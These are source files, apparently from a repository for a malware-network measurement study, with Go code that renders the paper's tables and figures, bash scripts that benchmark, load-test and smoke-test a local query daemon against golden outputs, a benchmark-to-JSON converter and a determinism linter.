	case 4:
		return results.NewTable4(st).Render(), nil
	case 5:
		return results.NewTable5().Render(), nil
	case 6:
		return results.NewTable6().Render(), nil
	case 7:
		return results.NewTable7(st).Render(), nil
	}
	return "", fmt.Errorf("malnet: no table %d", n)
}

// RenderFigure prints figure n (1–13) of the paper from a study.
func RenderFigure(st *Study, n int) (string, error) {
	switch n {
	case 1:
		return results.NewFigure1(st).Render(), nil
	case 2:
		return results.NewFigure2(st).Render(), nil
	case 3:
		return results.NewFigure3(st).Render(), nil
	case 4:
		return results.NewFigure4(st).Render(), nil
	case 5:
		return results.NewFigure5(st).Render(), nil
	case 6:
		return results.NewFigure6(st).Render(), nil
	case 7:
		return results.NewFigure7(st).Render(), nil
	case 8:
		return results.NewFigure8(st).Render(), nil
	case 9:
		return results.NewFigure9(st).Render(), nil
	case 10:
		return results.NewFigure10(st).Render(), nil
	case 11:
		return results.NewFigure11(st).Render(), nil
	case 12:
		return results.NewFigure12(st).Render(), nil
	case 13:
		return results.NewFigure13(st).Render(), nil
	}
	return "", fmt.Errorf("malnet: no figure %d", n)
}

// RenderHeadlines prints the scalar findings with paper values
// alongside.
func RenderHeadlines(st *Study) string {
	return results.NewHeadlines(st).Render() + results.NewDetectionQuality(st).Render()
}

// RenderAll prints every table, every figure, the headlines and the
// detection-quality panel — the full evaluation.
func RenderAll(st *Study) string {
	var sb strings.Builder
	for i := 1; i <= 7; i++ {
		s, _ := RenderTable(st, i)
		sb.WriteString(s)
		sb.WriteByte('\n')
	}
	for i := 1; i <= 13; i++ {
		s, _ := RenderFigure(st, i)
		sb.WriteString(s)
		sb.WriteByte('\n')
	}
	sb.WriteString(RenderHeadlines(st))
	return sb.String()
}
