#!/usr/bin/env bash
# Run the repo's benchmark suite and archive the results as JSON.
#
# Usage:  scripts/bench.sh [output-file]
#
# The default output is BENCH_<utc-date>.json in the repo root.
# BENCHTIME overrides -benchtime (default "1x": one iteration per
# benchmark, fast enough for CI; use e.g. BENCHTIME=2s locally for
# stable ns/op). BENCH selects a subset via -bench's regexp.
set -euo pipefail
cd "$(dirname "$0")/.."

out="${1:-BENCH_$(date -u +%F).json}"
benchtime="${BENCHTIME:-1x}"
pattern="${BENCH:-.}"
tmp="$(mktemp)"
trap 'rm -f "$tmp"' EXIT

echo "running benchmarks (-bench '$pattern' -benchtime $benchtime)..." >&2
go test -run '^$' -bench "$pattern" -benchtime "$benchtime" -benchmem . ./internal/serve/ | tee "$tmp" >&2
go run ./tools/benchjson <"$tmp" >"$out"
echo "wrote $out" >&2
