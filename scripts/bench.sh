#!/usr/bin/env bash
# Run the repo's benchmark suite and archive the results as JSON.
#
# Usage:  scripts/bench.sh [output-file]
#
# The default output is BENCH_<utc-date>.json in the repo root.
# BENCHTIME overrides -benchtime, with a floor: iteration-count values
# below 3x are raised to 3x, because archived one-iteration numbers
# (ns/op from a single run, allocs/op with warm-up noise) are too
# unstable to compare across PRs — exactly the trap the 2026-08-05
# archive fell into with BenchmarkAblationProbeInterval at
# iterations: 1. Time-based values (e.g. BENCHTIME=2s) pass through.
# BENCH selects a subset via -bench's regexp. MERGE lists extra JSON
# documents (benchjson output or cmd/malnetbench summaries) whose
# result rows are folded into the archive.
set -euo pipefail
cd "$(dirname "$0")/.."

out="${1:-BENCH_$(date -u +%F).json}"
benchtime="${BENCHTIME:-3x}"
if [[ "$benchtime" =~ ^([0-9]+)x$ ]] && [ "${BASH_REMATCH[1]}" -lt 3 ]; then
  echo "bench.sh: raising BENCHTIME=$benchtime to the 3x floor (archived numbers must be comparable)" >&2
  benchtime=3x
fi
pattern="${BENCH:-.}"
tmp="$(mktemp)"
trap 'rm -f "$tmp"' EXIT

merge_flags=()
for f in ${MERGE:-}; do
  merge_flags+=(-merge "$f")
done

echo "running benchmarks (-bench '$pattern' -benchtime $benchtime)..." >&2
go test -run '^$' -bench "$pattern" -benchtime "$benchtime" -benchmem . ./internal/serve/ ./internal/colstore/ | tee "$tmp" >&2
go run ./tools/benchjson ${merge_flags[@]+"${merge_flags[@]}"} <"$tmp" >"$out"
echo "wrote $out" >&2
