#!/usr/bin/env bash
# Load-test smoke of the serving path: run a short checkpointed study
# (the same fixture plumbing as scripts/smoke_serve.sh), boot malnetd
# with its debug plane, drive an open-loop zipf burst from
# cmd/malnetbench, and fail on any transport error or 5xx — or on
# zero throughput, which would mean the harness measured nothing.
#
# Usage:  scripts/loadtest_serve.sh [summary-out]
#
# DURATION / RATE / CONCURRENCY / SEED override the burst shape.
# With BENCH_FILE naming an existing benchjson document (e.g. the
# repo's BENCH_<date>.json), the summary's rows are merged into it
# via tools/benchjson, so load numbers archive next to the Go
# benchmarks.
set -euo pipefail
cd "$(dirname "$0")/.."

out="${1:-load_summary.json}"
duration="${DURATION:-2s}"
rate="${RATE:-500}"
concurrency="${CONCURRENCY:-8}"
seed="${SEED:-7}"
tmp="$(mktemp -d)"
daemon_pid=""
trap '[ -n "$daemon_pid" ] && kill "$daemon_pid" 2>/dev/null; rm -rf "$tmp"' EXIT

echo "running the fixture study (-short, checkpointed)..." >&2
go run ./cmd/malnet -short -checkpoint-dir "$tmp/ckpt" -out "$tmp/out" >/dev/null

echo "starting malnetd..." >&2
go build -o "$tmp/malnetd" ./cmd/malnetd
"$tmp/malnetd" -checkpoint-dir "$tmp/ckpt" -listen 127.0.0.1:0 -reload-every 0 \
  -debug-addr 127.0.0.1:0 -slowlog-threshold "${SLOWLOG_THRESHOLD:-250ms}" \
  >"$tmp/stdout" 2>"$tmp/stderr" &
daemon_pid=$!

base=""
for _ in $(seq 100); do
  base="$(sed -n 's#^listening on ##p' "$tmp/stdout" | head -n1)"
  [ -n "$base" ] && break
  kill -0 "$daemon_pid" 2>/dev/null || break
  sleep 0.1
done
if [ -z "$base" ]; then
  echo "malnetd did not come up:" >&2
  cat "$tmp/stderr" >&2
  exit 1
fi
dbg="$(sed -n 's#^debug server on http://\([^/]*\)/.*#\1#p' "$tmp/stderr" | head -n1)"

echo "driving $duration of load at $rate req/s x$concurrency against $base..." >&2
go run ./cmd/malnetbench -target "$base" ${dbg:+-debug "$dbg"} \
  -duration "$duration" -rate "$rate" -concurrency "$concurrency" \
  -seed "$seed" -require-success -out "$out"

# With the debug plane up the summary must carry the server-side RED
# rows scraped from /metrics, next to the client-side percentiles.
if [ -n "$dbg" ] && ! grep -q '"LoadServe/server/' "$out"; then
  echo "loadtest: summary has no server-side /metrics rows" >&2
  exit 1
fi

if [ -n "${BENCH_FILE:-}" ]; then
  # -replace: a re-archived run overwrites the previous LoadServe/
  # rows by name instead of doubling them.
  go run ./tools/benchjson -replace -merge "$BENCH_FILE" -merge "$out" </dev/null >"$tmp/merged.json"
  cp "$tmp/merged.json" "$BENCH_FILE"
  echo "merged load rows into $BENCH_FILE" >&2
fi
echo "load smoke OK ($base)" >&2
