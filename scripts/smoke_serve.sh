#!/usr/bin/env bash
# End-to-end smoke test of the serving path: run a short checkpointed
# study, point malnetd at its checkpoint directory, query the /v1 API,
# and diff the responses against committed goldens. The study, the
# checkpoint bytes, and the serving layer are all deterministic, so
# any drift anywhere in that chain shows up as a golden mismatch.
#
# Usage:  scripts/smoke_serve.sh           # check against goldens
#         scripts/smoke_serve.sh -update   # regenerate the goldens
set -euo pipefail
cd "$(dirname "$0")/.."

golden=scripts/testdata
mode="${1:-check}"
tmp="$(mktemp -d)"
daemon_pid=""
trap '[ -n "$daemon_pid" ] && kill "$daemon_pid" 2>/dev/null; rm -rf "$tmp"' EXIT

echo "running the fixture study (-short, checkpointed)..." >&2
go run ./cmd/malnet -short -checkpoint-dir "$tmp/ckpt" -out "$tmp/out" >/dev/null

echo "starting malnetd..." >&2
go build -o "$tmp/malnetd" ./cmd/malnetd
"$tmp/malnetd" -checkpoint-dir "$tmp/ckpt" -listen 127.0.0.1:0 -reload-every 0 \
  >"$tmp/stdout" 2>"$tmp/stderr" &
daemon_pid=$!

base=""
for _ in $(seq 100); do
  base="$(sed -n 's#^listening on ##p' "$tmp/stdout" | head -n1)"
  [ -n "$base" ] && break
  kill -0 "$daemon_pid" 2>/dev/null || break
  sleep 0.1
done
if [ -z "$base" ]; then
  echo "malnetd did not come up:" >&2
  cat "$tmp/stderr" >&2
  exit 1
fi

status=0
check() { # <golden-file> <path>
  local name="$1" path="$2"
  curl -sfS "$base$path" >"$tmp/$name"
  if [ "$mode" = "-update" ]; then
    cp "$tmp/$name" "$golden/$name"
    echo "updated $golden/$name" >&2
  elif ! diff -u "$golden/$name" "$tmp/$name"; then
    echo "smoke: $path drifted from $golden/$name" >&2
    status=1
  fi
}

check serve_headline.json "/v1/headline"
check serve_samples.json "/v1/samples?family=mirai&limit=2"

[ "$status" -eq 0 ] && echo "serve smoke OK ($base)" >&2
exit "$status"
