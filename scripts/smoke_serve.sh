#!/usr/bin/env bash
# End-to-end smoke test of the serving path: run a short checkpointed
# study, point malnetd at its checkpoint directory, query the /v1 API,
# and diff the responses against committed goldens. The study, the
# checkpoint bytes, and the serving layer are all deterministic, so
# any drift anywhere in that chain shows up as a golden mismatch.
#
# The same study also commits every checkpoint into a run lake
# (-lake-dir); a second daemon then mounts the lake and the run=/asof=
# selectors must replay the directory-mode goldens byte-for-byte,
# with /v1/runs and /v1/diff diffed against their own goldens.
#
# Usage:  scripts/smoke_serve.sh           # check against goldens
#         scripts/smoke_serve.sh -update   # regenerate the goldens
set -euo pipefail
cd "$(dirname "$0")/.."

golden=scripts/testdata
mode="${1:-check}"
tmp="$(mktemp -d)"
daemon_pid=""
trap '[ -n "$daemon_pid" ] && kill "$daemon_pid" 2>/dev/null; rm -rf "$tmp"' EXIT

echo "running the fixture study (-short, scenario-packed, checkpointed, lake-committed)..." >&2
go run ./cmd/malnet -short -scenarios wisp,sora -checkpoint-dir "$tmp/ckpt" -out "$tmp/out" \
  -lake-dir "$tmp/lake" -lake-run smoke >/dev/null

echo "starting malnetd..." >&2
go build -o "$tmp/malnetd" ./cmd/malnetd
"$tmp/malnetd" -checkpoint-dir "$tmp/ckpt" -listen 127.0.0.1:0 -reload-every 0 \
  -debug-addr 127.0.0.1:0 -slowlog-threshold 0 \
  >"$tmp/stdout" 2>"$tmp/stderr" &
daemon_pid=$!

base=""
for _ in $(seq 100); do
  base="$(sed -n 's#^listening on ##p' "$tmp/stdout" | head -n1)"
  [ -n "$base" ] && break
  kill -0 "$daemon_pid" 2>/dev/null || break
  sleep 0.1
done
if [ -z "$base" ]; then
  echo "malnetd did not come up:" >&2
  cat "$tmp/stderr" >&2
  exit 1
fi

status=0
check() { # <golden-file> <path>
  local name="$1" path="$2"
  curl -sfS "$base$path" >"$tmp/$name"
  if [ "$mode" = "-update" ]; then
    cp "$tmp/$name" "$golden/$name"
    echo "updated $golden/$name" >&2
  elif ! diff -u "$golden/$name" "$tmp/$name"; then
    echo "smoke: $path drifted from $golden/$name" >&2
    status=1
  fi
}

check_status() { # <golden-file> <want-status> <path>
  local name="$1" want="$2" path="$3" got
  got="$(curl -sS -o "$tmp/$name" -w '%{http_code}' "$base$path")"
  if [ "$got" != "$want" ]; then
    echo "smoke: $path returned HTTP $got, want $want" >&2
    status=1
    return
  fi
  if [ "$mode" = "-update" ]; then
    cp "$tmp/$name" "$golden/$name"
    echo "updated $golden/$name" >&2
  elif ! diff -u "$golden/$name" "$tmp/$name"; then
    echo "smoke: $path drifted from $golden/$name" >&2
    status=1
  fi
}

check serve_headline.json "/v1/headline"
check serve_samples.json "/v1/samples?family=mirai&limit=2"
# /v1/query expressions, pre-escaped: %3D%3D is ==, %20 space, %22 ".
check serve_query_count.json "/v1/query?q=%7C%20count()%20by%20family"
check serve_query_filter.json "/v1/query?q=family%3D%3D%22mirai%22%20and%20day%20in%200..365%20%7C%20count()%20by%20c2"
check serve_query_topk.json "/v1/query?q=%7C%20topk(3)%20by%20attack"
# The spec registry joined with the scenario-packed dataset: wisp's
# relay mesh and sora's DGA churn must show up with nonzero counts.
check serve_families.json "/v1/families"
# A malformed expression must be a stable 400, not a 500 — the error
# body (with the parser's position) is part of the API surface.
check_status serve_query_bad.json 400 "/v1/query?q=family%3D%3D"
check_status serve_families_bad.json 400 "/v1/families?bogus=1"
# Lake-only surfaces must be stable 4xx in directory mode, not 500s.
check_status serve_runs_nonlake.json 404 "/v1/runs"
check_status serve_selector_nonlake.json 400 "/v1/headline?run=main"

# --- serving-plane observability smoke --------------------------------
# The golden walk above generated known traffic; the debug listener's
# /metrics must now expose it in well-formed Prometheus text format.
dbg="$(sed -n 's#^debug server on http://\([^/]*\)/.*#\1#p' "$tmp/stderr" | head -n1)"
if [ -z "$dbg" ]; then
  echo "smoke: malnetd never announced its debug server" >&2
  cat "$tmp/stderr" >&2
  exit 1
fi
curl -sfS "http://$dbg/metrics" >"$tmp/metrics"

# Every non-comment line must parse as `name{label="v",...} value`.
if ! awk '
  /^#/ { next }
  /^$/ { next }
  !/^[a-zA-Z_:][a-zA-Z0-9_:]*(\{[a-zA-Z_][a-zA-Z0-9_]*="[^"]*"(,[a-zA-Z_][a-zA-Z0-9_]*="[^"]*")*\})? -?[0-9]+(\.[0-9]+)?$/ {
    printf "malformed exposition line: %s\n", $0; bad = 1
  }
  END { exit bad }
' "$tmp/metrics"; then
  echo "smoke: /metrics is not well-formed exposition text" >&2
  status=1
fi

# The golden walk hit these endpoints, so their request counters must
# be nonzero (and 2xx — golden responses all succeeded).
for ep in headline samples query; do
  if ! grep -Eq "^malnetd_requests_total\{endpoint=\"$ep\",code=\"2xx\"\} [1-9]" "$tmp/metrics"; then
    echo "smoke: /metrics shows no 2xx traffic for endpoint \"$ep\":" >&2
    grep '^malnetd_requests_total' "$tmp/metrics" >&2 || true
    status=1
  fi
done
# The deliberate 400 must land in the error-class counter.
if ! grep -Eq '^malnetd_requests_total\{endpoint="query",code="4xx"\} [1-9]' "$tmp/metrics"; then
  echo "smoke: /metrics did not count the golden 400" >&2
  status=1
fi

# With -slowlog-threshold 0 every request is recorded, so the slowlog
# must be serving entries for the walked endpoints.
curl -sfS "http://$dbg/debug/slowlog" >"$tmp/slowlog"
if ! grep -q '"endpoint": "headline"' "$tmp/slowlog"; then
  echo "smoke: /debug/slowlog has no entry for the headline request" >&2
  status=1
fi

# --- run-lake smoke ---------------------------------------------------
# Swap the daemon onto the lake the study committed into. Head
# selectors must replay the directory-mode goldens byte-for-byte:
# run=main resolves the branch head, run=smoke the run name, asof=365
# the newest commit of the year — all three are the same generation
# the directory daemon just served.
kill "$daemon_pid" 2>/dev/null
wait "$daemon_pid" 2>/dev/null || true
daemon_pid=""

"$tmp/malnetd" -checkpoint-dir "$tmp/lake" -listen 127.0.0.1:0 -reload-every 0 \
  >"$tmp/stdout2" 2>"$tmp/stderr2" &
daemon_pid=$!
base=""
for _ in $(seq 100); do
  base="$(sed -n 's#^listening on ##p' "$tmp/stdout2" | head -n1)"
  [ -n "$base" ] && break
  kill -0 "$daemon_pid" 2>/dev/null || break
  sleep 0.1
done
if [ -z "$base" ]; then
  echo "malnetd did not come up on the lake:" >&2
  cat "$tmp/stderr2" >&2
  exit 1
fi

check serve_headline.json "/v1/headline?run=main"
check serve_headline.json "/v1/headline?asof=365"
check serve_samples.json "/v1/samples?family=mirai&limit=2&run=smoke"
check serve_query_count.json "/v1/query?q=%7C%20count()%20by%20family&run=main"
check serve_families.json "/v1/families?run=main"
# Time travel to mid-study: asof=100 resolves the newest commit at or
# before day 100, a generation the directory daemon never served.
check serve_asof_headline.json "/v1/headline?asof=100"
# Lake-only endpoints: the run listing (truncated so the golden stays
# small) and a head-vs-day-100 diff of the same branch.
check serve_runs.json "/v1/runs?limit=3"
check serve_diff.json "/v1/diff?a=main%40100&b=main"
# Unknown run names are stable 404s.
check_status serve_selector_404.json 404 "/v1/headline?run=nope"

[ "$status" -eq 0 ] && echo "serve smoke OK ($base lake, metrics on $dbg)" >&2
exit "$status"
