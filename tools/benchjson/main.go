// Command benchjson converts `go test -bench` text output on stdin
// into a stable JSON document on stdout, so CI can archive benchmark
// runs as machine-readable artifacts (see scripts/bench.sh).
//
// It understands the standard benchmark line shape
//
//	BenchmarkName-8   100   11859 ns/op   5122 B/op   72 allocs/op   1447 samples
//
// keeping ns/op, B/op, allocs/op, and any b.ReportMetric extras, plus
// the goos/goarch/pkg/cpu header lines as run metadata.
package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"strconv"
	"strings"
)

type result struct {
	Name       string             `json:"name"`
	Iterations int64              `json:"iterations"`
	NsPerOp    float64            `json:"ns_per_op"`
	BytesPerOp *float64           `json:"bytes_per_op,omitempty"`
	AllocsOp   *float64           `json:"allocs_per_op,omitempty"`
	Metrics    map[string]float64 `json:"metrics,omitempty"`
}

type doc struct {
	GOOS    string   `json:"goos,omitempty"`
	GOARCH  string   `json:"goarch,omitempty"`
	Pkg     string   `json:"pkg,omitempty"`
	CPU     string   `json:"cpu,omitempty"`
	Results []result `json:"results"`
}

func main() {
	var d doc
	sc := bufio.NewScanner(os.Stdin)
	sc.Buffer(make([]byte, 0, 1<<20), 1<<20)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		switch {
		case strings.HasPrefix(line, "goos:"):
			d.GOOS = strings.TrimSpace(strings.TrimPrefix(line, "goos:"))
		case strings.HasPrefix(line, "goarch:"):
			d.GOARCH = strings.TrimSpace(strings.TrimPrefix(line, "goarch:"))
		case strings.HasPrefix(line, "pkg:"):
			d.Pkg = strings.TrimSpace(strings.TrimPrefix(line, "pkg:"))
		case strings.HasPrefix(line, "cpu:"):
			d.CPU = strings.TrimSpace(strings.TrimPrefix(line, "cpu:"))
		case strings.HasPrefix(line, "Benchmark"):
			if r, ok := parseLine(line); ok {
				d.Results = append(d.Results, r)
			}
		}
	}
	if err := sc.Err(); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
	if len(d.Results) == 0 {
		fmt.Fprintln(os.Stderr, "benchjson: no benchmark lines on stdin")
		os.Exit(1)
	}
	enc := json.NewEncoder(os.Stdout)
	enc.SetIndent("", "  ")
	if err := enc.Encode(d); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
}

// parseLine decodes one benchmark result line. Fields come in
// "value unit" pairs after the name and iteration count.
func parseLine(line string) (result, bool) {
	f := strings.Fields(line)
	if len(f) < 4 || len(f)%2 != 0 {
		return result{}, false
	}
	iters, err := strconv.ParseInt(f[1], 10, 64)
	if err != nil {
		return result{}, false
	}
	r := result{Name: trimProcSuffix(f[0]), Iterations: iters}
	for i := 2; i+1 < len(f); i += 2 {
		v, err := strconv.ParseFloat(f[i], 64)
		if err != nil {
			return result{}, false
		}
		switch unit := f[i+1]; unit {
		case "ns/op":
			r.NsPerOp = v
		case "B/op":
			val := v
			r.BytesPerOp = &val
		case "allocs/op":
			val := v
			r.AllocsOp = &val
		default:
			if r.Metrics == nil {
				r.Metrics = map[string]float64{}
			}
			r.Metrics[unit] = v
		}
	}
	return r, true
}

// trimProcSuffix drops the trailing -GOMAXPROCS marker so names are
// comparable across machines (Benchmark/sub-8 → Benchmark/sub).
func trimProcSuffix(name string) string {
	i := strings.LastIndexByte(name, '-')
	if i < 0 {
		return name
	}
	if _, err := strconv.Atoi(name[i+1:]); err != nil {
		return name
	}
	return name[:i]
}
