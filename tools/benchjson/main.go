// Command benchjson converts `go test -bench` text output on stdin
// into a stable JSON document on stdout, so CI can archive benchmark
// runs as machine-readable artifacts (see scripts/bench.sh).
//
// It understands the standard benchmark line shape
//
//	BenchmarkName-8   100   11859 ns/op   5122 B/op   72 allocs/op   1447 samples
//
// keeping ns/op, B/op, allocs/op, and any b.ReportMetric extras, plus
// the goos/goarch/pkg/cpu header lines as run metadata.
//
// -merge FILE (repeatable) folds the result rows of an existing JSON
// document — a previous benchjson run, or a cmd/malnetbench summary,
// whose "results" arrays share this schema — into the output after
// the stdin rows. That is how a load-test run lands next to the Go
// benchmarks in one BENCH_<date>.json:
//
//	benchjson -merge BENCH_2026-08-07.json -merge load_summary.json </dev/null
//
// -replace dedupes the final document by row name, keeping the value
// from the last source that produced it (stdin first, then the -merge
// files in order). That is how a fresh load run re-archives over the
// previous day's LoadServe/ rows without doubling them:
//
//	benchjson -replace -merge BENCH_2026-08-07.json -merge new_summary.json </dev/null
package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"strconv"
	"strings"
)

type result struct {
	Name       string             `json:"name"`
	Iterations int64              `json:"iterations"`
	NsPerOp    float64            `json:"ns_per_op"`
	BytesPerOp *float64           `json:"bytes_per_op,omitempty"`
	AllocsOp   *float64           `json:"allocs_per_op,omitempty"`
	Metrics    map[string]float64 `json:"metrics,omitempty"`
}

type doc struct {
	GOOS    string   `json:"goos,omitempty"`
	GOARCH  string   `json:"goarch,omitempty"`
	Pkg     string   `json:"pkg,omitempty"`
	CPU     string   `json:"cpu,omitempty"`
	Results []result `json:"results"`
}

// multiFlag collects a repeatable -merge flag.
type multiFlag []string

func (m *multiFlag) String() string     { return strings.Join(*m, ",") }
func (m *multiFlag) Set(v string) error { *m = append(*m, v); return nil }

func main() {
	var merges multiFlag
	replace := false
	args := os.Args[1:]
	for len(args) > 0 {
		switch {
		case args[0] == "-merge" && len(args) > 1:
			merges.Set(args[1])
			args = args[2:]
		case strings.HasPrefix(args[0], "-merge="):
			merges.Set(strings.TrimPrefix(args[0], "-merge="))
			args = args[1:]
		case args[0] == "-replace":
			replace = true
			args = args[1:]
		default:
			fmt.Fprintf(os.Stderr, "benchjson: unknown argument %q (usage: benchjson [-replace] [-merge FILE]... < bench.txt)\n", args[0])
			os.Exit(2)
		}
	}

	var d doc
	sc := bufio.NewScanner(os.Stdin)
	sc.Buffer(make([]byte, 0, 1<<20), 1<<20)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		switch {
		case strings.HasPrefix(line, "goos:"):
			d.GOOS = strings.TrimSpace(strings.TrimPrefix(line, "goos:"))
		case strings.HasPrefix(line, "goarch:"):
			d.GOARCH = strings.TrimSpace(strings.TrimPrefix(line, "goarch:"))
		case strings.HasPrefix(line, "pkg:"):
			d.Pkg = strings.TrimSpace(strings.TrimPrefix(line, "pkg:"))
		case strings.HasPrefix(line, "cpu:"):
			d.CPU = strings.TrimSpace(strings.TrimPrefix(line, "cpu:"))
		case strings.HasPrefix(line, "Benchmark"):
			if r, ok := parseLine(line); ok {
				d.Results = append(d.Results, r)
			}
		}
	}
	if err := sc.Err(); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
	for _, path := range merges {
		if err := mergeFile(&d, path); err != nil {
			fmt.Fprintln(os.Stderr, "benchjson:", err)
			os.Exit(1)
		}
	}
	if replace {
		d.Results = dedupeByName(d.Results)
	}
	if len(d.Results) == 0 {
		fmt.Fprintln(os.Stderr, "benchjson: no benchmark lines on stdin and nothing merged")
		os.Exit(1)
	}
	enc := json.NewEncoder(os.Stdout)
	enc.SetIndent("", "  ")
	if err := enc.Encode(d); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
}

// mergeFile appends the result rows of a benchjson-schema document
// into d, adopting its run metadata when stdin supplied none (the
// </dev/null -merge-only invocation).
func mergeFile(d *doc, path string) error {
	raw, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	var m doc
	if err := json.Unmarshal(raw, &m); err != nil {
		return fmt.Errorf("parsing %s: %w", path, err)
	}
	if len(m.Results) == 0 {
		return fmt.Errorf("%s has no results rows to merge", path)
	}
	if d.GOOS == "" {
		d.GOOS = m.GOOS
	}
	if d.GOARCH == "" {
		d.GOARCH = m.GOARCH
	}
	if d.Pkg == "" {
		d.Pkg = m.Pkg
	}
	if d.CPU == "" {
		d.CPU = m.CPU
	}
	d.Results = append(d.Results, m.Results...)
	return nil
}

// dedupeByName keeps one row per name: the row stays at its first
// position (so the document's ordering is stable across re-archives)
// but carries the value of its last occurrence (so the newest merge
// wins).
func dedupeByName(rows []result) []result {
	at := map[string]int{}
	var out []result
	for _, r := range rows {
		if i, ok := at[r.Name]; ok {
			out[i] = r
			continue
		}
		at[r.Name] = len(out)
		out = append(out, r)
	}
	return out
}

// parseLine decodes one benchmark result line. Fields come in
// "value unit" pairs after the name and iteration count.
func parseLine(line string) (result, bool) {
	f := strings.Fields(line)
	if len(f) < 4 || len(f)%2 != 0 {
		return result{}, false
	}
	iters, err := strconv.ParseInt(f[1], 10, 64)
	if err != nil {
		return result{}, false
	}
	r := result{Name: trimProcSuffix(f[0]), Iterations: iters}
	for i := 2; i+1 < len(f); i += 2 {
		v, err := strconv.ParseFloat(f[i], 64)
		if err != nil {
			return result{}, false
		}
		switch unit := f[i+1]; unit {
		case "ns/op":
			r.NsPerOp = v
		case "B/op":
			val := v
			r.BytesPerOp = &val
		case "allocs/op":
			val := v
			r.AllocsOp = &val
		default:
			if r.Metrics == nil {
				r.Metrics = map[string]float64{}
			}
			r.Metrics[unit] = v
		}
	}
	return r, true
}

// trimProcSuffix drops the trailing -GOMAXPROCS marker so names are
// comparable across machines (Benchmark/sub-8 → Benchmark/sub).
func trimProcSuffix(name string) string {
	i := strings.LastIndexByte(name, '-')
	if i < 0 {
		return name
	}
	if _, err := strconv.Atoi(name[i+1:]); err != nil {
		return name
	}
	return name[:i]
}
