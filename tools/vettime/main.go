// Command vettime enforces the repo's determinism contract at the
// source level: no package under ./internal may read or wait on wall
// time directly — the deterministic pipeline runs on the simclock
// virtual clock, and the only blessed wall-clock accessors live in
// internal/obs (profiling plane) and internal/realprobe (real-network
// adapter). Everything else calling time.Now, time.Sleep, time.After
// and friends would smuggle nondeterminism into outputs that the
// equivalence tests promise are byte-identical at any worker count.
//
// It also enforces the durability contract on internal/checkpoint:
// any non-test file there that creates files (os.WriteFile, os.Create,
// os.OpenFile) must also call os.Rename — the temp-file-plus-rename
// pattern that makes snapshot writes atomic. A direct write could
// leave a half-written day-NNN.ckpt for a resume to trip over.
// internal/checkpoint and internal/lake additionally carry the fsync
// half of that contract: a non-test file that opens writable handles
// must call .Sync() (Close does not flush the page cache), and
// os.WriteFile — which exposes no handle to Sync — is banned there
// outright.
//
// And it holds internal/colstore to a stricter purity rule: non-test
// files there may not import "time" or "math/rand" at all. The
// columnar engine's differential suite replays generated queries
// across worker counts and sessions, so even seeded-but-stateful
// randomness (a shared *rand.Rand advancing per call) is a hazard;
// colstore draws every choice through internal/detrand's pure hash
// instead.
//
// internal/serve gets the same import-level ban on "time": request
// timing on the serving path belongs to internal/obs/redplane (the
// one blessed wall-clock reader there), so the serving library itself
// must not even be able to reach the clock. The reload ticker lives
// in cmd/malnetd, which is out of scope on purpose.
//
// Usage:  go run ./tools/vettime [dir]     (default ./internal)
//
// Exits 1 listing each offending call site. _test.go files are
// exempt (tests may time themselves); cmd/ is exempt by scope (CLIs
// report wall-clock progress on purpose).
package main

import (
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"strconv"
	"strings"
)

// banned are the time-package functions that read or wait on the wall
// clock. Pure-value helpers (time.Date, time.Parse, time.Duration
// arithmetic) are fine — they don't observe the clock.
var banned = map[string]bool{
	"Now": true, "Since": true, "Until": true,
	"Sleep": true, "After": true, "Tick": true,
	"NewTicker": true, "NewTimer": true, "AfterFunc": true,
}

// allowed packages own a telemetry or real-network plane where wall
// time is the point: obs (profiling), realprobe (real-TCP probing),
// loadgen (latency measurement of a live daemon).
var allowed = []string{
	filepath.Join("internal", "obs"),
	filepath.Join("internal", "realprobe"),
	filepath.Join("internal", "loadgen"),
}

func main() {
	root := "./internal"
	if len(os.Args) > 1 {
		root = os.Args[1]
	}
	fset := token.NewFileSet()
	var findings []string

	err := filepath.WalkDir(root, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() {
			for _, a := range allowed {
				if strings.HasSuffix(filepath.Clean(path), a) {
					return filepath.SkipDir
				}
			}
			return nil
		}
		if !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		file, err := parser.ParseFile(fset, path, nil, 0)
		if err != nil {
			return fmt.Errorf("parsing %s: %w", path, err)
		}
		findings = append(findings, check(fset, file)...)
		if strings.Contains(filepath.Clean(path), filepath.Join("internal", "checkpoint")) {
			findings = append(findings, checkAtomicWrites(fset, file, path)...)
			findings = append(findings, checkSyncBeforeClose(fset, file)...)
		}
		if strings.Contains(filepath.Clean(path), filepath.Join("internal", "lake")) {
			findings = append(findings, checkSyncBeforeClose(fset, file)...)
		}
		if strings.Contains(filepath.Clean(path), filepath.Join("internal", "colstore")) {
			findings = append(findings, checkPureImports(fset, file)...)
		}
		if strings.Contains(filepath.Clean(path), filepath.Join("internal", "serve")) {
			findings = append(findings, checkServeNoTime(fset, file)...)
		}
		return nil
	})
	if err != nil {
		fmt.Fprintln(os.Stderr, "vettime:", err)
		os.Exit(2)
	}
	if len(findings) > 0 {
		for _, f := range findings {
			fmt.Fprintln(os.Stderr, f)
		}
		fmt.Fprintf(os.Stderr, "vettime: %d contract violation(s): wall-clock reads need the simclock (or obs.Now for telemetry); checkpoint writes need temp-file + os.Rename\n", len(findings))
		os.Exit(1)
	}
}

// fileCreators are the os-package calls that produce a file at its
// final path; inside internal/checkpoint their presence demands an
// os.Rename in the same file (write-to-temp, rename-into-place).
var fileCreators = map[string]bool{
	"WriteFile": true, "Create": true, "OpenFile": true,
}

// checkAtomicWrites flags internal/checkpoint files that create files
// without renaming: checkpoint writes must be atomic (temp file +
// os.Rename), or a crash can strand a torn snapshot at a real
// day-NNN.ckpt path.
func checkAtomicWrites(fset *token.FileSet, file *ast.File, path string) []string {
	osName := ""
	for _, imp := range file.Imports {
		if p, _ := strconv.Unquote(imp.Path.Value); p == "os" {
